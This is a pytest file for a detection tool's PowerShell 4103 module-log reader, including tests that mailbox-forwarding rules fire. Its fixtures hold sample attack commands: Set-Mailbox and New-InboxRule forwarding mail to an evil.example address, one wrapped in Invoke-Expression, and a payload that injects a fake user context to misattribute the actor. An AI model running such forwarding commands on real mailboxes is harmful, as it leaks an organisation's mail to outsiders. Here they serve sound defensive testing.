"""The PowerShell module-logging reader (app/normalise/powershell_module_log.py, EventID 4103):
the real 4103 events are all taken and read alike in every shape Splunk gives them, the bound
command and full parameter names become cmdlet events, and hostile payloads cost a bounded
read with a problem message, never a lost event."""

import copy

from app.normalise import REGISTRY, RecordView, normalise
from app.normalise.powershell_module_log import (MAX_COMMANDS, MAX_PAYLOAD_CHARS, PIPELINE_OPERATION, SOURCE,
                                                 looks_like_powershell_module_log, pipeline_commands)
from app.problems import ProblemLog
from tests.helpers import hayabusa_windows_events
from tests.powershell_module_shapes import bindings, module_log_shapes

_RAW_ONLY_KEYS = ("sourcetype", "source", "host", "_time", "_raw")


def _context(engine, problems=None):
    context = copy.copy(engine.context)
    context.problems = problems or ProblemLog()
    return context


def _seen(events):
    return [(e.source, e.operation, e.parameters, e.actor, e.mailbox, e.dest, e.extra, e.text) for e in events]


def test_every_real_4103_is_taken_by_this_reader_and_read_alike_with_only_its_raw(engine):
    context = _context(engine)
    real = [record for record in hayabusa_windows_events() if record.get("EventCode") == "4103"]
    assert len(real) > 150
    taken = 0
    for record in real:
        first = next(n for n in REGISTRY if n.recognises(RecordView(record)))
        assert first.name == SOURCE
        raw_only = {key: record[key] for key in _RAW_ONLY_KEYS if key in record}
        assert looks_like_powershell_module_log(RecordView(raw_only))
        assert _seen(normalise(record, context)) == _seen(normalise(raw_only, context))
        taken += 1
    assert taken == len(real)


def test_no_other_real_event_is_taken():
    for record in hayabusa_windows_events():
        if record.get("EventCode") != "4103":
            assert not looks_like_powershell_module_log(RecordView(record)), record.get("EventCode")


def test_real_bindings_are_read_with_their_full_names():
    payload = ('CommandInvocation(Join-Path): "Join-Path"\nParameterBinding(Join-Path): name="Path"; '
               'value="C:\\windows\\system32\\windowspowershell\\v1.0\\Modules\\BitsTransfer"\n'
               'ParameterBinding(Join-Path): name="ChildPath"; value="Interop.dll"\n')
    assert pipeline_commands(payload) == [("Join-Path", {
        "path": "C:\\windows\\system32\\windowspowershell\\v1.0\\Modules\\BitsTransfer", "childpath": "Interop.dll"})]


def test_a_pipeline_gives_each_command_its_own_bindings_and_a_failed_one_none():
    payload = ('CommandInvocation(Get-Mailbox): "Get-Mailbox"\nCommandInvocation(Set-Mailbox): "Set-Mailbox"\n'
               'ParameterBinding(Get-Mailbox): name="ResultSize"; value="Unlimited"\n'
               'ParameterBinding(Set-Mailbox): name="ForwardingSmtpAddress"; value="smtp:x@evil.example"\n'
               'CommandInvocation(Add-MailboxPermission): "Add-MailboxPermission"\n'
               'TerminatingError(Add-MailboxPermission): "denied"\n')
    assert pipeline_commands(payload) == [("Get-Mailbox", {"resultsize": "Unlimited"}),
                                          ("Set-Mailbox", {"forwardingsmtpaddress": "smtp:x@evil.example"})]


def test_a_value_over_several_lines_with_quotes_is_one_value():
    payload = ('CommandInvocation(Invoke-Expression): "Invoke-Expression"\nParameterBinding(Invoke-Expression): '
               'name="Command"; value="$a = "x"\nNew-InboxRule -ForwardTo "y@evil.example""\n')
    assert pipeline_commands(payload) == [("Invoke-Expression", {
        "command": '$a = "x"\nNew-InboxRule -ForwardTo "y@evil.example"'})]


def _classic(message):
    return {"sourcetype": "WinEventLog", "source": "WinEventLog:Microsoft-Windows-PowerShell/Operational",
            "EventCode": "4103", "ComputerName": "ws-1", "Message": message}


def test_a_bound_value_naming_the_context_title_does_not_cut_the_bindings_short(engine):
    message = ('CommandInvocation(Set-Mailbox): "Set-Mailbox"\r\nParameterBinding(Set-Mailbox): name="Identity"; '
               'value="ceo\r\n\r\nContext:\r\n        User = CONTOSO\\decoy\r\n"\r\nParameterBinding(Set-Mailbox): '
               'name="ForwardingSmtpAddress"; value="x@evil.example"\r\n\r\n\r\nContext:\r\n        User = '
               'CONTOSO\\mallory\r\n\r\n\r\nUser Data:\r\n\r\n')
    events = [e for e in normalise(_classic(message), _context(engine)) if e.operation == "Set-Mailbox"]
    assert [e.parameters["forwardingsmtpaddress"] for e in events] == ["x@evil.example"]
    assert events[0].actor == "CONTOSO\\mallory"
    findings = engine.detect(_classic(message), use_allowlist=False)
    assert "t1114_003_mailbox_forwarding" in [f.rule.id for f in findings]


def test_the_pipeline_event_carries_the_payload_as_text(engine):
    message = ('CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="ComObject"; '
               'value="Outlook.Application"\r\n\r\nContext:\r\n        Host Application = powershell.exe\r\n')
    events = normalise(_classic(message), _context(engine))
    pipeline = [e for e in events if e.operation == PIPELINE_OPERATION]
    assert len(pipeline) == 1 and 'name="ComObject"; value="Outlook.Application"' in pipeline[0].text
    assert pipeline[0].extra["host_application"] == "powershell.exe"


def test_an_oversized_payload_is_read_up_to_its_budget_and_said(engine):
    problems = ProblemLog()
    payload = ('CommandInvocation(Set-Mailbox): "Set-Mailbox"\nParameterBinding(Set-Mailbox): '
               'name="ForwardingSmtpAddress"; value="x@evil.example"\nParameterBinding(Set-Mailbox): name="Notes"; '
               'value="' + "A" * (MAX_PAYLOAD_CHARS + 10) + '"\n')
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
              "EventCode": "4103", "Payload": payload}
    events = normalise(record, _context(engine, problems))
    assert [e.parameters.get("forwardingsmtpaddress") for e in events if e.operation == "Set-Mailbox"] == [
        "x@evil.example"]
    assert any("longer than" in message for message in problems.messages())


def test_a_payload_naming_too_many_commands_is_read_up_to_its_budget_and_said():
    problems = ProblemLog()
    payload = "".join('CommandInvocation(Get-Thing%d): "x"\n' % n for n in range(MAX_COMMANDS + 50))
    assert len(pipeline_commands(payload, problems)) == MAX_COMMANDS
    assert any("more than %d commands" % MAX_COMMANDS in message for message in problems.messages())


def test_a_4104_or_another_providers_4103_is_not_this_readers():
    script_block = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": "Get-Date"}
    other = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Application", "EventCode": "4103",
             "_raw": "<Event><System><Provider Name='SomethingElse'/><EventID>4103</EventID></System></Event>"}
    assert not looks_like_powershell_module_log(RecordView(script_block))
    assert not looks_like_powershell_module_log(RecordView(other))


def test_the_test_shapes_bind_what_the_call_states_and_refuse_what_it_does_not():
    assert bindings('-Identity "ceo" -ForwardTo a@x.example,b@x.example -DeliverToMailboxAndForward $true -Force') == [
        ("Identity", "ceo"), ("ForwardTo", "a@x.example, b@x.example"), ("DeliverToMailboxAndForward", "True"),
        ("Force", "True")]
    assert bindings("-ForwardTo $null -Identity 'o''brien'") == [("Identity", "o'brien")]
    assert bindings("ceo -ForwardTo x@y.example") is None          # positional: 4103 would name it
    assert bindings("-ForwardTo $address") is None                 # a variable's value is not in the text


def test_every_shape_of_one_call_gives_the_same_events(engine):
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "Computer": "ws-9.contoso.com",
              "UserID": "S-1-5-21-1-2-3-1104", "ScriptBlockText": 'Set-Mailbox -Identity cfo -ForwardingSmtpAddress "smtp:x@evil.example"'}
    shapes = module_log_shapes(record)
    assert len(shapes) == 4
    context = _context(engine)
    seen = [_seen(normalise(shaped, context)) for _, shaped in shapes]
    assert seen[0] and all(one == seen[0] for one in seen)
    cmdlet = [event for event in seen[0] if event[1] == "Set-Mailbox"]
    assert cmdlet[0][2] == {"identity": "cfo", "forwardingsmtpaddress": "smtp:x@evil.example"}
    assert cmdlet[0][3] == "S-1-5-21-1-2-3-1104" and cmdlet[0][5] == "ws-9.contoso.com"


def test_powershell_7s_4103_with_only_its_raw_is_read(engine):
    raw = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='PowerShellCore' "
           "Guid='{f90714a8-5509-434a-bf6d-b1624c8a19a2}'/><EventID>4103</EventID><Channel>PowerShellCore/Operational"
           "</Channel><Computer>ws-7.contoso.com</Computer></System><EventData><Data Name='ContextInfo'>        User = "
           "CONTOSO\\bob&#13;&#10;</Data><Data Name='UserData'></Data><Data Name='Payload'>CommandInvocation(Set-Mailbox): "
           "&quot;Set-Mailbox&quot;&#13;&#10;ParameterBinding(Set-Mailbox): name=&quot;ForwardingSmtpAddress&quot;; "
           "value=&quot;x@evil.example&quot;&#13;&#10;</Data></EventData></Event>")
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:PowerShellCore/Operational", "_raw": raw}
    findings = engine.detect(record, use_allowlist=False)
    assert [(f.rule.id, f.event.actor, f.event.dest) for f in findings] == [
        ("t1114_003_mailbox_forwarding", "CONTOSO\\bob", "ws-7.contoso.com")]


def test_one_script_run_is_two_events_and_each_gives_its_finding(engine):
    """Script block logging (4104) and module logging (4103) of the same run are two Splunk
    events: each gives the rule's finding, from what was written and from what ran (README)."""
    script_block = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
                    "EventCode": "4104", "Computer": "ws-1", "ScriptBlockText": "$p=@{Mailbox='ceo';ForwardTo="
                    "'x@evil.example'}; New-InboxRule -Name x -ForwardTo x@evil.example"}
    module_log = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
                  "EventCode": "4103", "Computer": "ws-1",
                  "Payload": 'CommandInvocation(New-InboxRule): "New-InboxRule"\nParameterBinding(New-InboxRule): '
                             'name="Name"; value="x"\nParameterBinding(New-InboxRule): name="ForwardTo"; '
                             'value="x@evil.example"\n'}
    for record in (script_block, module_log):
        assert "t1114_003_inbox_rule_forward_cmdlet" in [f.rule.id for f in engine.detect(record, use_allowlist=False)]
